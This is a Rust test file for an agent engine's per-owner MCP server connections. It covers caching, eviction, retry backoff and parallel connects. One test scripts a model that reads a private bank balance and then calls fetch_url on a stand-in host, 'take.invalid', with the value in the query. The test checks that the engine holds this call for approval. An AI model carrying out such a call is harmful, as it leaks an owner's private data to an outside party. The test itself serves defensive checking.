//! Servers that are connected for each owner apart: how long a connection lasts, and what its tools return.

use std::{
    collections::BTreeMap,
    sync::{
        Arc, Mutex,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use async_trait::async_trait;
use entourage_engine::{Client, ConnectForOwner, NewAgent, ToolServer};
use entourage_llm::{Message, Script, ScriptedModel};
use entourage_store::MemoryStore;
use entourage_testkit::{World, plain};
use entourage_tools::{Caller, Context, Effect, Error, Outcome, Tool};
use entourage_types::{About, Agent, Owner, SecretName, ToolSpec, Verdict};
use secrecy::SecretString;
use serde_json::{Value, json};
use tokio::sync::{Barrier, Semaphore};

use crate::{
    kit::{eventually, first_tools, one_kind},
    secrets::{asked, key, keys, name, set_secret},
};

/// How many connections a node keeps.
const MOST: usize = 64;

/// Connects the server `bank` and counts its connections.
#[derive(Clone, Default)]
struct Bank {
    made: Arc<AtomicUsize>,
    open: Arc<AtomicUsize>,
    calls: Arc<Calls>,
}

/// The calls of its tool: each waits until a test lets it go on.
struct Calls {
    begun: Semaphore,
    let_go: Semaphore,
}

impl Default for Calls {
    fn default() -> Self {
        Self { begun: Semaphore::new(0), let_go: Semaphore::new(0) }
    }
}

/// The one tool of a connection, which is open as long as somebody has it.
struct Look(Bank);

impl Drop for Look {
    fn drop(&mut self) {
        self.0.open.fetch_sub(1, Ordering::SeqCst);
    }
}

#[async_trait]
impl Tool for Look {
    fn name(&self) -> &str {
        "bank__look"
    }

    fn effect(&self) -> Effect {
        Effect::Pure
    }

    fn offer(&self, _: &Caller<'_>) -> Option<ToolSpec> {
        Some(ToolSpec::new("bank__look", "Looks.", json!({ "type": "object" })))
    }

    async fn call(&self, _: &Context, _: Value) -> Result<Outcome, Error> {
        self.0.calls.begun.add_permits(1);
        self.0.calls.let_go.acquire().await.expect("it is never closed").forget();
        Err(Error::Failed("the balance of 4711 is locked".into()))
    }
}

#[async_trait]
impl ConnectForOwner for Bank {
    async fn connect(
        &self,
        _: &str,
        _: &BTreeMap<SecretName, SecretString>,
    ) -> Result<Vec<Arc<dyn Tool>>, String> {
        self.made.fetch_add(1, Ordering::SeqCst);
        self.open.fetch_add(1, Ordering::SeqCst);
        Ok(vec![Arc::new(Look(self.clone()))])
    }
}

impl Bank {
    fn made(&self) -> usize {
        self.made.load(Ordering::SeqCst)
    }

    /// Waits until that many connections are open.
    async fn open(&self, count: usize) {
        let open = async || self.open.load(Ordering::SeqCst);
        eventually("so many connections are open", open, |open| *open == count).await;
    }
}

/// A world in which each owner has a server of their own.
async fn start(model: &ScriptedModel, bank: &Bank) -> World {
    let bank = bank.clone();
    start_with(model, move || Arc::new(bank.clone())).await
}

async fn start_with(
    model: &ScriptedModel,
    connector: impl Fn() -> Arc<dyn ConnectForOwner> + Send + Sync + 'static,
) -> World {
    start_of(model, &["bank"], connector).await
}

/// The same with these servers.
async fn start_of(
    model: &ScriptedModel,
    servers: &[&str],
    connector: impl Fn() -> Arc<dyn ConnectForOwner> + Send + Sync + 'static,
) -> World {
    let set = Mutex::new(key());
    let server = |of: &&str| ToolServer { secrets: vec![name("token")], ..ToolServer::shared(*of) };
    let servers: Vec<ToolServer> = servers.iter().map(server).collect();
    World::builder(model.clone())
        .store(MemoryStore::default())
        .tools(first_tools())
        .kinds(one_kind(|kind| kind.tools = Some(vec!["mcp".into(), "fetch_url".into()])))
        .engine(move |engine| {
            engine
                .tool_servers(servers.clone())
                .connect_for_owner(connector())
                .secret_keys(Some(keys(&set.lock().unwrap())))
        })
        .start()
        .await
}

/// A model that calls the owner's tool as often as it is told to.
fn looking() -> ScriptedModel {
    ScriptedModel::deciding(|request| {
        let calls = request.messages.iter().filter(|message| matches!(message, Message::Assistant { .. }));
        let is_told = matches!(&request.messages[0], Message::User(text) if text == "Look twice.");
        Some(Ok(match calls.count() {
            0 | 1 if is_told => Script::call("bank__look", json!({})),
            _ => Script::text("So."),
        }))
    })
}

/// A new agent of this owner that is told this.
pub(crate) async fn told(world: &World, owner: &str, text: &str) -> (Client, Agent) {
    let client = world.engine().client(Owner::new(owner));
    let kind = world.engine().kinds().iter().next().map(|kind| kind.name.to_string());
    let new = NewAgent { kind, message: Some(text.into()), ..NewAgent::default() };
    let agent = client.create(new, None).await.unwrap();
    (client, agent)
}

/// A run keeps the connection that it began with, whoever else comes meanwhile; it ends with the run.
#[tokio::test]
async fn a_run_keeps_its_connection_while_many_other_owners_are_connected() {
    let (model, bank) = (looking(), Bank::default());
    let world = start(&model, &bank).await;
    set_secret(&world, "first", "secret of first").await;
    let (client, agent) = told(&world, "first", "Look twice.").await;
    bank.calls.begun.acquire().await.unwrap().forget();
    for number in 0..=MOST {
        let owner = format!("owner-{number}");
        set_secret(&world, &owner, "secret of another").await;
        asked(&world, &owner).await;
    }
    // The first one is among the open ones only because its run is at work.
    bank.open(MOST + 1).await;
    bank.calls.let_go.add_permits(2);
    let look = async || client.agent(agent.id).await.unwrap();
    eventually("it has ended", look, |agent| agent.status.is_terminal()).await;
    let lines = plain(&client.items(agent.id, 0, 100).await.unwrap());
    let called = lines.iter().filter(|line| line.contains("the balance of 4711")).count();
    assert_eq!(called, 2, "no call lacked its tool: {lines:#?}");
    assert_eq!(bank.made(), MOST + 2, "each owner was connected once");
    bank.open(MOST).await;
    // It is the one that was not used for the longest time, and is connected anew.
    asked(&world, "first").await;
    assert_eq!(bank.made(), MOST + 3);
    bank.open(MOST).await;
    assert_eq!(world.audit().await, []);
}

/// Who has not set the secret has no connection, and takes no place from those who have one.
#[tokio::test]
async fn owners_without_the_secret_end_no_ones_connection() {
    let (model, bank) = (looking(), Bank::default());
    let world = start(&model, &bank).await;
    set_secret(&world, "first", "secret of first").await;
    asked(&world, "first").await;
    for number in 0..=MOST {
        asked(&world, &format!("owner-{number}")).await;
    }
    asked(&world, "first").await;
    assert_eq!((bank.made(), bank.open.load(Ordering::SeqCst)), (1, 1));
}

/// What a server of one's own says is private, like what that of all says: also when a call of it fails.
#[tokio::test]
async fn a_failed_call_of_an_owners_server_counts_as_private() {
    let model = ScriptedModel::deciding(|request| {
        let calls = request.messages.iter().filter(|message| matches!(message, Message::Assistant { .. }));
        Some(Ok(match calls.count() {
            0 => Script::call("bank__look", json!({})),
            1 => Script::call("fetch_url", json!({ "url": "http://take.invalid/?q=4711" })),
            _ => Script::text("Done."),
        }))
    });
    let bank = Bank::default();
    let world = start(&model, &bank).await;
    set_secret(&world, "ann", "secret of ann").await;
    bank.calls.let_go.add_permits(1);
    let (client, agent) = told(&world, "ann", "Go.").await;
    let open = async || client.questions(None, None, Default::default()).await.unwrap();
    let question = eventually("it asks", open, |open| !open.is_empty()).await.remove(0);
    let proposal = question.proposal.as_deref().unwrap();
    assert_eq!((question.about, proposal.tool.as_str()), (About::Approval, "fetch_url"));
    client.answer(question.id, Verdict::Reject.into()).await.unwrap();
    let look = async || client.agent(agent.id).await.unwrap();
    eventually("it has ended", look, |agent| agent.status.is_terminal()).await;
    let lines = plain(&client.items(agent.id, 0, 100).await.unwrap());
    assert!(lines[2].starts_with("output!") && lines[2].contains("4711"), "{lines:#?}");
}

/// Connects nobody at first; what is tried after that waits until a test lets it go on, and succeeds.
#[derive(Clone)]
struct Hanging {
    bank: Bank,
    let_go: Arc<Semaphore>,
}

#[async_trait]
impl ConnectForOwner for Hanging {
    async fn connect(
        &self,
        server: &str,
        secrets: &BTreeMap<SecretName, SecretString>,
    ) -> Result<Vec<Arc<dyn Tool>>, String> {
        if self.bank.made() == 0 {
            self.bank.made.fetch_add(1, Ordering::SeqCst);
            return Err("the MCP server `bank` is closed".into());
        }
        let connected = self.bank.connect(server, secrets).await;
        self.let_go.acquire().await.expect("it is never closed").forget();
        connected
    }
}

/// A server that is known to fail delays nobody: it is tried again beside, and used once it is connected. After an hour
/// nothing is known of it any more.
#[tokio::test]
async fn a_server_that_fails_is_tried_again_in_the_background() {
    let (model, bank) = (looking(), Bank::default());
    let hanging = Hanging { bank: bank.clone(), let_go: Arc::new(Semaphore::new(0)) };
    let connector = hanging.clone();
    let world = start_with(&model, move || Arc::new(connector.clone())).await;
    let is_offered = || model.requests().last().unwrap().tools.iter().any(|tool| tool.name == "bank__look");
    set_secret(&world, "ann", "secret of ann").await;
    asked(&world, "ann").await;
    world.clock().advance(Duration::from_secs(59));
    asked(&world, "ann").await;
    assert_eq!(bank.made(), 1, "not before its time");
    world.clock().advance(Duration::from_secs(1));
    for _ in 0..2 {
        asked(&world, "ann").await;
        eventually("it is tried again", async || bank.made(), |made| *made == 2).await;
        assert!(!is_offered());
    }
    hanging.let_go.add_permits(1);
    let connected = async || world.engine().client(Owner::new("ann")).servers(None).await.unwrap();
    eventually("it is connected", connected, |servers| servers[0].is_connected).await;
    asked(&world, "ann").await;
    assert!(is_offered());
    assert_eq!(bank.made(), 2);
    assert_eq!(world.audit().await, []);
}

/// A server that fails again and again is tried less often: a minute after the first time, two after the second, four
/// after the third.
#[tokio::test]
async fn the_pauses_before_a_server_is_tried_again_grow() {
    let (model, tried) = (looking(), Arc::new(AtomicUsize::new(0)));
    let failing = Failing(Arc::clone(&tried));
    let world = start_with(&model, move || Arc::new(failing.clone())).await;
    set_secret(&world, "ann", "secret of ann").await;
    let tries = || tried.load(Ordering::SeqCst);
    asked(&world, "ann").await;
    assert_eq!(tries(), 1);
    for (attempt, pause) in [(2, 60), (3, 120), (4, 240)] {
        world.clock().advance(Duration::from_secs(pause - 1));
        asked(&world, "ann").await;
        assert_eq!(tries(), attempt - 1, "not before {pause} s");
        world.clock().advance(Duration::from_secs(1));
        asked(&world, "ann").await;
        eventually("it is tried again", async || tries(), |tries| *tries == attempt).await;
    }
}

/// Connects nobody.
#[derive(Clone)]
struct Failing(Arc<AtomicUsize>);

#[async_trait]
impl ConnectForOwner for Failing {
    async fn connect(
        &self,
        _: &str,
        _: &BTreeMap<SecretName, SecretString>,
    ) -> Result<Vec<Arc<dyn Tool>>, String> {
        self.0.fetch_add(1, Ordering::SeqCst);
        Err("the MCP server `bank` is closed".into())
    }
}

#[tokio::test]
async fn an_agent_waits_for_a_server_that_failed_more_than_an_hour_ago() {
    let (model, bank) = (looking(), Bank::default());
    let hanging = Hanging { bank: bank.clone(), let_go: Arc::new(Semaphore::new(1)) };
    let world = start_with(&model, move || Arc::new(hanging.clone())).await;
    set_secret(&world, "ann", "secret of ann").await;
    asked(&world, "ann").await;
    world.clock().advance(Duration::from_secs(3600));
    asked(&world, "ann").await;
    assert!(model.requests().last().unwrap().tools.iter().any(|tool| tool.name == "bank__look"));
}

/// Connects a server once another one is being connected, too.
#[derive(Clone)]
struct InPairs {
    bank: Bank,
    pair: Arc<Barrier>,
}

#[async_trait]
impl ConnectForOwner for InPairs {
    async fn connect(
        &self,
        server: &str,
        secrets: &BTreeMap<SecretName, SecretString>,
    ) -> Result<Vec<Arc<dyn Tool>>, String> {
        self.pair.wait().await;
        self.bank.connect(server, secrets).await
    }
}

/// One server of an owner does not wait for another.
#[tokio::test]
async fn the_servers_of_an_owner_are_connected_at_once() {
    let (model, bank) = (looking(), Bank::default());
    let pairs = InPairs { bank: bank.clone(), pair: Arc::new(Barrier::new(2)) };
    let world = start_of(&model, &["bank", "mail"], move || Arc::new(pairs.clone())).await;
    set_secret(&world, "ann", "secret of ann").await;
    asked(&world, "ann").await;
    assert_eq!(bank.made(), 2);
    let servers = world.engine().client(Owner::new("ann")).servers(None).await.unwrap();
    assert!(servers.iter().all(|server| server.is_connected), "{servers:?}");
}
